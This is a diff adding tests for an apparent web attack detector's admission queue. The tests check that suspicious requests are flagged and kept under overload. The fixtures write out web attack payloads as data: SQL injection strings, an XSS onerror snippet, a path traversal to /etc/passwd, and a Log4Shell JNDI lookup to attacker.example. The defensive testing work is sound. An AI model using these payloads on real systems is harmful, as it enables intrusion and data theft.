@@ -5,7 +5,16 @@ import net from 'node:net';
 import { describe, it } from 'node:test';
 import v8 from 'node:v8';
 import vm from 'node:vm';
+import { hasCheapSignal } from '../src/admission/cheap-signals.js';
+import { createAdmission } from '../src/admission/admission-queue.js';
+import { decodeBatch } from '../src/admission/batch-codec.js';
+import type { DetectPool } from '../src/admission/detect-pool.js';
+import { resolveConfig } from '../src/config/config.js';
+import { silentLogger } from '../src/core/logger.js';
+import { createCoreMetrics } from '../src/core/metrics.js';
+import type { CapturedExchange } from '../src/core/model.js';
 import type { Shadowtap } from '../src/server.js';
+import { loadMix } from '../bench/load-mix.js';
 import { metricValue, startTestServer } from './helpers/start-server.js';
 
 // A forced full GC makes the heap comparison meaningful (the test runner has no --expose-gc).
@@ -222,5 +231,94 @@ describe('overload: the shadow listener keeps answering and every request is acc
       agent.destroy();
       await app.close();
     }
+  });
+});
+
+function exchange(id: string, target: string, body = '', headers: Array<[string, string]> = []): CapturedExchange {
+  return {
+    id,
+    requestId: id,
+    source: 'mirror',
+    receivedAt: 0,
+    clientIp: '127.0.0.1',
+    host: 'shop.example.com',
+    method: body ? 'POST' : 'GET',
+    target,
+    httpVersion: '1.1',
+    headers,
+    body: Buffer.from(body),
+    bodyTruncated: false,
+    bodyBytesSeen: body.length,
+  };
+}
+
+describe('sampling prefers requests with cheap suspicious signals', () => {
+  it('flags every attack of the benchmark mix and none of its benign requests', () => {
+    const mix = loadMix({ host: 'shop.example.com', count: 400, seed: 42 });
+    const flagged = (kind: (k: string) => boolean) =>
+      mix
+        .filter((r) => kind(r.kind))
+        .map((r, i) => hasCheapSignal(exchange(String(i), r.path, r.body ?? '', Object.entries(r.headers))));
+    const attacks = flagged((k) => k.startsWith('attack:'));
+    const benign = flagged((k) => !k.startsWith('attack:'));
+    assert.equal(attacks.length, 20);
+    assert.deepEqual(attacks.filter((f) => !f).length, 0, 'every attack carries a cheap signal');
+    assert.equal(benign.filter(Boolean).length, 0, 'no benign request of the mix does');
+  });
+
+  it('under pressure, suspicious requests are admitted while 3 in 4 benign ones are sampled out', async () => {
+    // A pool that never finishes: the queue only fills, so the outcome is deterministic.
+    const pool: DetectPool = {
+      threads: 1,
+      capacity: 1,
+      run: (batch) => {
+        decodeBatch(batch);
+        return new Promise(() => undefined);
+      },
+      utilization: () => 1,
+      close: async () => undefined,
+    };
+    const metrics = createCoreMetrics();
+    const admission = createAdmission({
+      config: { ...resolveConfig().admission, queueSize: 100, batchSize: 1, batchWindowMs: 0, overloadSampleRate: 4 },
+      pool,
+      metrics,
+      logger: silentLogger(),
+      onResult: () => undefined,
+    });
+    // One exchange goes to the (stuck) pool, 75 fill the queue up to the sampling threshold.
+    for (let i = 0; i < 76; i++) assert.ok(admission.submit(exchange(`fill${i}`, `/products?page=${i}`)).accepted);
+    const attacks = [
+      exchange('sqli', `/search?q=${encodeURIComponent("x' OR 1=1--")}`),
+      exchange('xss', '/api/reviews', JSON.stringify({ text: '<img src=x onerror=alert(1)>' })),
+      exchange('traversal', '/files?path=..%2F..%2Fetc%2Fpasswd'),
+      exchange('log4shell', '/', '', [['x-api-version', '${jndi:ldap://attacker.example/a}']]),
+      exchange('sqli-form', '/login', "user=admin'--&password=x"),
+    ];
+    const outcomes = new Map<string, boolean>();
+    for (let i = 0; i < 20; i++) {
+      const benign = exchange(
+        `benign${i}`,
+        `/products?category=shoes&page=${i}`,
+        JSON.stringify({ note: 'leave at door' }),
+      );
+      outcomes.set(benign.id, admission.submit(benign).accepted);
+      if (i % 4 === 3) {
+        const attack = attacks[(i - 3) / 4]!;
+        outcomes.set(attack.id, admission.submit(attack).accepted);
+      }
+    }
+    assert.deepEqual(
+      attacks.map((a) => outcomes.get(a.id)),
+      attacks.map(() => true),
+      'every suspicious request admitted',
+    );
+    const benignKept = [...outcomes].filter(([id, ok]) => id.startsWith('benign') && ok).length;
+    assert.equal(benignKept, 5, '1 in 4 benign requests kept');
+    const { values } = await metrics.shed.get();
+    assert.deepEqual(
+      values.map((v) => [v.labels.reason, v.value]),
+      [['sampled_out', 15]],
+    );
   });
 });
